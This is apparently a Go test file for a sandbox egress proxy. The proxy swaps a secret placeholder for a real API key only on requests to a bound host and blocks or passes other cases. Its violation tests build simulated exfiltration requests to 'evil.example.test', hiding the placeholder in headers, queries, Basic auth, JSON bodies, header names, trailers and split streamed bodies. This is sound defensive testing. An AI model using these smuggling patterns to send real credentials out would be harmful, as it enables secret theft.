package inject

import (
	"context"
	"encoding/base64"
	"errors"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/hutchdev/hutch/internal/egress/policy"
)

const realKey = "sk-REAL-key-0123456789abcdef"

func testSet(t *testing.T, in []string, onViolation string) (*Set, string) {
	t.Helper()
	tok := NewPlaceholder()
	s := NewSet([]policy.Placeholder{{Secret: "OPENAI", Hosts: []string{"api.example.test"}, In: in, Prefix: "sk-", OnViolation: onViolation}}, map[string]string{"OPENAI": tok})
	return s, "sk-" + tok
}

func value(_ context.Context, name string) ([]byte, error) {
	if name == "OPENAI" {
		return []byte(realKey), nil
	}
	return nil, errors.New("no such secret")
}

func newReq(t *testing.T, method, target, body string, hdr map[string]string) *http.Request {
	t.Helper()
	r, err := http.NewRequest(method, target, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if body == "" {
		r.Body = http.NoBody
	}
	for k, v := range hdr {
		r.Header.Set(k, v)
	}
	return r
}

func TestPlaceholderSwapInScope(t *testing.T) {
	s, ph := testSet(t, nil, "")
	r := newReq(t, "GET", "https://api.example.test/v1", "", map[string]string{"Authorization": "Bearer " + ph})
	res, err := s.Apply(context.Background(), "api.example.test", r, value)
	if err != nil || r.Header.Get("Authorization") != "Bearer "+realKey || len(res.Swapped) != 1 || len(res.Violations) != 0 {
		t.Fatalf("swap: %v %q %+v", err, r.Header.Get("Authorization"), res)
	}
	red := NewRedactor(res.Redact)
	if out, _ := red.String("echo " + realKey); out != "echo "+ph {
		t.Fatalf("redaction back to the placeholder: %q", out)
	}
	// Basic auth hides it in base64.
	r = newReq(t, "GET", "https://api.example.test/", "", map[string]string{"Authorization": "Basic " + base64.StdEncoding.EncodeToString([]byte("user:"+ph))})
	if _, err := s.Apply(context.Background(), "api.example.test", r, value); err != nil {
		t.Fatal(err)
	}
	if u, p, ok := r.BasicAuth(); !ok || u != "user" || p != realKey {
		t.Fatalf("basic swap: %q %q", u, p)
	}
}

func TestPlaceholderViolations(t *testing.T) {
	_, ph := testSet(t, nil, "")
	tok := strings.TrimPrefix(ph, "sk-")
	b64 := base64.StdEncoding.EncodeToString([]byte("user:" + ph))
	for _, tc := range []struct {
		name, host, target, body string
		hdr                      map[string]string
		loc                      string
	}{
		{"other host, Authorization", "evil.example.test", "https://evil.example.test/", "", map[string]string{"Authorization": "Bearer " + ph}, "header:authorization"},
		{"other host, custom header", "evil.example.test", "https://evil.example.test/", "", map[string]string{"X-Key": ph}, "header:x-key"},
		{"other host, query", "evil.example.test", "https://evil.example.test/?k=" + ph, "", nil, "query"},
		{"other host, url-encoded query", "evil.example.test", "https://evil.example.test/?k=" + url.QueryEscape("%68") + "x&j=" + strings.ReplaceAll(url.QueryEscape(tok), "h", "%68"), "", nil, "query"},
		{"other host, basic", "evil.example.test", "https://evil.example.test/", "", map[string]string{"Authorization": "Basic " + b64}, "header:authorization"},
		{"other host, json body", "evil.example.test", "https://evil.example.test/", `{"key":"` + ph + `"}`, nil, "body"},
	} {
		s := NewSet([]policy.Placeholder{{Secret: "OPENAI", Hosts: []string{"api.example.test"}, Prefix: "sk-"}}, map[string]string{"OPENAI": tok})
		r := newReq(t, "POST", tc.target, tc.body, tc.hdr)
		res, err := s.Apply(context.Background(), tc.host, r, value)
		if !errors.Is(err, ErrViolation) || len(res.Violations) == 0 || res.Violations[0].Location != tc.loc || res.Violations[0].Secret != "OPENAI" {
			t.Errorf("%s: err %v violations %+v", tc.name, err, res.Violations)
		}
		if strings.Contains(r.Header.Get("Authorization")+r.Header.Get("X-Key")+r.URL.String(), realKey) {
			t.Errorf("%s: real value written into a refused request", tc.name)
		}
	}
}

// TestPlaceholderBoundHostOutOfScope: towards its own host, a placeholder outside the swap
// scope (EGRESS.md §10 abuse test 6) is sent unchanged and reported with action pass.
func TestPlaceholderBoundHostOutOfScope(t *testing.T) {
	_, ph := testSet(t, nil, "")
	tok := strings.TrimPrefix(ph, "sk-")
	for _, tc := range []struct {
		name, target, body string
		hdr                map[string]string
		loc                string
	}{
		{"custom header", "https://api.example.test/", "", map[string]string{"X-Note": ph}, "header:x-note"},
		{"body", "https://api.example.test/upload", `{"key":"` + ph + `"}`, nil, "body"},
		{"path", "https://api.example.test/" + ph, "", nil, "path"},
	} {
		s := NewSet([]policy.Placeholder{{Secret: "OPENAI", Hosts: []string{"api.example.test"}, Prefix: "sk-"}}, map[string]string{"OPENAI": tok})
		r := newReq(t, "POST", tc.target, tc.body, tc.hdr)
		res, err := s.Apply(context.Background(), "api.example.test", r, value)
		if err != nil || len(res.Violations) != 1 || res.Violations[0].Location != tc.loc || res.Violations[0].Action != OnViolationPass || len(res.Swapped) != 0 {
			t.Errorf("%s: err %v result %+v", tc.name, err, res)
		}
		b, _ := io.ReadAll(r.Body)
		all := r.Header.Get("X-Note") + r.URL.String() + string(b)
		if strings.Contains(all, realKey) || !strings.Contains(all, tok) {
			t.Errorf("%s: request not left unchanged: %q", tc.name, all)
		}
	}
}

func TestPlaceholderPassAndBodyScope(t *testing.T) {
	s, ph := testSet(t, []string{"body"}, OnViolationPass)
	r := newReq(t, "POST", "https://api.example.test/", `{"k":"`+ph+`"}`, map[string]string{"Authorization": "Bearer " + ph})
	res, err := s.Apply(context.Background(), "api.example.test", r, value)
	if err != nil || len(res.Violations) != 1 || res.Violations[0].Action != OnViolationPass {
		t.Fatalf("pass: %v %+v", err, res)
	}
	b, _ := io.ReadAll(r.Body)
	if string(b) != `{"k":"`+realKey+`"}` || r.ContentLength != int64(len(b)) {
		t.Fatalf("body swap: %q %d", b, r.ContentLength)
	}
	if r.Header.Get("Authorization") != "Bearer "+ph {
		t.Fatal("out-of-scope header swapped")
	}
	// A streamed (unknown length) body with a marker split across reads fails where the
	// placeholder would have to be swapped (body scope) or blocked (another host), and passes
	// unchanged towards its own host outside the body scope.
	for _, tc := range []struct {
		host  string
		scope []string
		fails bool
	}{
		{"api.example.test", []string{"body"}, true},
		{"evil.example.test", nil, true},
		{"api.example.test", nil, false},
	} {
		s2, ph2 := testSet(t, tc.scope, "")
		pr, pw := io.Pipe()
		go func() { pw.Write([]byte("aaaa" + ph2[:6])); pw.Write([]byte(ph2[6:] + "zz")); pw.Close() }()
		r2, _ := http.NewRequest("POST", "https://"+tc.host+"/", pr)
		r2.ContentLength = -1
		if _, err := s2.Apply(context.Background(), tc.host, r2, value); err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(r2.Body)
		if tc.fails != errors.Is(err, ErrViolation) || (!tc.fails && string(b) != "aaaa"+ph2+"zz") {
			t.Fatalf("streamed marker towards %s (scope %v): %v %q", tc.host, tc.scope, err, b)
		}
	}
	// block_and_stop asks for a stop.
	s3, ph3 := testSet(t, nil, OnViolationBlockAndStop)
	res3, err := s3.Apply(context.Background(), "evil.example.test", newReq(t, "GET", "https://evil.example.test/", "", map[string]string{"Authorization": ph3}), value)
	if !errors.Is(err, ErrViolation) || !res3.Stop {
		t.Fatalf("block_and_stop: %v %+v", err, res3)
	}
}

// TestPlaceholderInHeaderName: a placeholder in a field name (never swapped) is a violation
// towards another host and passes towards its own, found although the name arrives
// case-folded (Go canonicalises it; HTTP/2 lower-cases it), in a declared trailer name too.
func TestPlaceholderInHeaderName(t *testing.T) {
	s, ph := testSet(t, nil, "")
	other := "X-" + NewPlaceholder() // a marker, but not this sandbox's placeholder
	for _, tc := range []struct {
		name    string
		header  http.Header
		trailer http.Header
		host    string
		blocked bool
	}{
		{"canonicalised name, other host", http.Header{http.CanonicalHeaderKey("x-" + ph): {"1"}}, nil, "evil.example.test", true},
		{"lower-case name, other host", http.Header{"x-" + strings.ToLower(ph): {"1"}}, nil, "evil.example.test", true},
		{"declared trailer name, other host", nil, http.Header{http.CanonicalHeaderKey("x-" + ph): nil}, "evil.example.test", true},
		{"name, bound host", http.Header{http.CanonicalHeaderKey("x-" + ph): {"1"}}, nil, "api.example.test", false},
		{"another sandbox's placeholder", http.Header{http.CanonicalHeaderKey(other): {"1"}}, nil, "evil.example.test", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := newReq(t, "GET", "https://"+tc.host+"/", "", nil)
			for k, vs := range tc.header {
				r.Header[k] = vs
			}
			r.Trailer = tc.trailer
			res, err := s.Apply(context.Background(), tc.host, r, value)
			if got := errors.Is(err, ErrViolation); got != tc.blocked {
				t.Fatalf("blocked %v (%v), want %v", got, err, tc.blocked)
			}
			want := 1
			if tc.name == "another sandbox's placeholder" {
				want = 0
			}
			if len(res.Violations) != want || (want == 1 && res.Violations[0].Location != "header-name") {
				t.Fatalf("violations %+v", res.Violations)
			}
			if want == 1 && !tc.blocked && res.Violations[0].Action != OnViolationPass {
				t.Fatalf("towards the bound host: %+v", res.Violations)
			}
		})
	}
}
